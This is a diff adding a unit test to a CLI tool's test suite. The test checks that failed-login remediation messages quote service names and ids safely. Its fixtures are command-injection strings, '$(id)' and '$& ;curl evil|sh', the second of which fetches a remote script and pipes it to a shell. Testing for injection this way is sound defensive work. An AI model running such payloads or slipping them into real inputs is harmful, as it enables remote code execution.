@@ -178,6 +178,16 @@ test.each(Object.entries(loginErrorTexts))(
   },
 );
 
+test("names and ids of a service are words of the suggested commands", () => {
+  const failed = { id: "$(id)", flow_status: "FAILED", credential: { name: "$& ;curl evil|sh" } };
+  expect(explained({ ...failed, error_code: "credentials_invalid" }).next).toContain(
+    "Correct the stored value: browserctl credentials update '$& ;curl evil|sh' --ask password",
+  );
+  expect(explained({ ...failed, error_code: "no_login_form" }).next).toContain(
+    "Name the login page: browserctl auth connections update '$(id)' --login-url URL",
+  );
+});
+
 test("every code of the service's own failures has a text", () => {
   const kinds: Record<LoginFlowErrorKind, true> = {
     browser_session_terminated: true,
